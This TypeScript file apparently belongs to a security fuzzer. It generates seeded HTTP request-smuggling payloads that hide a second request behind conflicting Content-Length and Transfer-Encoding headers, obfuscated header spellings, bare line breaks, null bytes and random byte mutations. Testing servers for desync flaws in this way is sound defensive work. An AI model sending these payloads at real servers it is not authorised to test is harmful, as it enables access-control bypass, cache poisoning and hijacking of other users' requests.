// What an attacker sends to make two servers see different requests: bodies that hold a whole request, behind framing that
// somebody could read in another way. Every payload begins with a request for /open/{id}; /smuggled/{id} is only ever
// written where, read rightly, it is part of a body or of a message to be refused.

/** Seeded, so that a finding can be repeated. */
export function* desyncPayloads(count: number, seed: number): Generator<{ id: number; bytes: Buffer }> {
  const random = mulberry32(seed);
  const pick = <Item>(items: readonly Item[]): Item => items[Math.floor(random() * items.length)] as Item;
  for (let id = 0; id < count; id += 1) {
    const inner = `GET /smuggled/${id} HTTP/1.1\r\nHost: up\r\n\r\n`;
    const body = pick([chunkedBody, plainBody, earlyEnd, oddSize])(inner, pick);
    const framing = pick(framings)(body, inner);
    const line = pick(['POST', 'PUT', 'POST', 'GET', 'DELETE', 'HEAD']);
    const headers = shuffle(['Host: a', ...framing, ...(random() < 0.3 ? [pick(extras)] : [])], random);
    let text = `${line} /_api/testapi000/prod/open/${id} HTTP/${random() < 0.9 ? '1.1' : '1.0'}\r\n${headers.join('\r\n')}\r\n\r\n${body}`;
    if (random() < 0.5) text = mutate(text, random, pick);
    yield { id, bytes: Buffer.from(text, 'latin1') };
  }
}

type Pick = <Item>(items: readonly Item[]) => Item;

const size = (text: string) => text.length.toString(16);

function chunkedBody(inner: string): string {
  return `${size(inner)}\r\n${inner}\r\n0\r\n\r\n`;
}

function plainBody(inner: string): string {
  return `xx${inner}`;
}

/** For who reads chunks the body ends at once, for who reads a length it goes on. */
function earlyEnd(inner: string): string {
  return `1\r\nx\r\n0\r\nX: ${inner}`;
}

function oddSize(inner: string, pick: Pick): string {
  const prefix = pick(['0x', '+', ' ', '00000000000000000', '']);
  const suffix = pick([' ', ';a', ';a="\r\n"', '\n', '\r', ';\n', '\t', '']);
  return `${prefix}${size(inner)}${suffix}\r\n${inner}\r\n0\r\n\r\n`;
}

const framings: readonly ((body: string, inner: string) => string[])[] = [
  (body) => [`Content-Length: ${body.length}`],
  () => ['Transfer-Encoding: chunked'],
  (body) => [`Content-Length: ${body.length}`, 'Transfer-Encoding: chunked'],
  (body, inner) => [`Content-Length: ${body.length - inner.length}`, 'Transfer-Encoding: chunked'],
  (body) => [`Content-Length: ${body.length}`, 'Content-Length: 0'],
  (body) => [`Content-Length: 0, ${body.length}`],
  () => ['Transfer-Encoding: chunked', 'Transfer-Encoding: identity'],
  () => ['Transfer-Encoding: identity, chunked'],
  () => ['Transfer-Encoding: \x0bchunked'],
  () => ['Transfer-Encoding : chunked'],
  () => ['Transfer-Encoding:\r\n chunked'],
  (body) => [`Content_Length: ${body.length}`, 'Transfer-Encoding: chunked'],
  (body) => [`Content-Length: 0${body.length}`],
  (body) => [`Content-Length: +${body.length}`],
  () => ['X: y\nTransfer-Encoding: chunked'],
  () => ['X: y\rTransfer-Encoding: chunked'],
];

const extras = [
  ...['Connection: close, Transfer-Encoding', 'Connection: Content-Length', 'Expect: 100-continue', 'Upgrade: h2c', 'Trailer: X'],
  ...['Host: b', 'X-HTTP-Method-Override: GET', 'TE: trailers', '', ' folded', 'no-colon', '\x00: x', 'a\x00b: x'],
];

/** One byte or two put in, taken out or replaced, in the head mostly; never in the id, which tells what the client intends. */
function mutate(text: string, random: () => number, pick: Pick): string {
  const idEnd = text.indexOf(' HTTP/');
  const idStart = text.lastIndexOf('/', idEnd - 1) + 1;
  const chosen = Math.floor(random() * Math.min(text.length, text.indexOf('\r\n\r\n') + 8));
  const put = pick(['\r', '\n', '\t', ' ', '\x00', '\x0b', '\x85', '\xa0', ';', ',', ':', '0', '\r\n', '\r\n ']);
  const taken = Math.floor(random() * 3);
  const at = chosen <= idEnd && chosen + taken >= idStart ? idEnd + 1 : chosen;
  return text.slice(0, at) + (random() < 0.7 ? put : '') + text.slice(at + taken);
}

function shuffle<Item>(items: readonly Item[], random: () => number): Item[] {
  return items
    .map((item) => ({ item, rank: random() }))
    .sort((left, right) => left.rank - right.rank)
    .map(({ item }) => item);
}

/** Source: T. Ettinger, mulberry32, public domain. */
function mulberry32(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), 1 | state);
    mixed = (mixed + Math.imul(mixed ^ (mixed >>> 7), 61 | mixed)) ^ mixed;
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 4_294_967_296;
  };
}
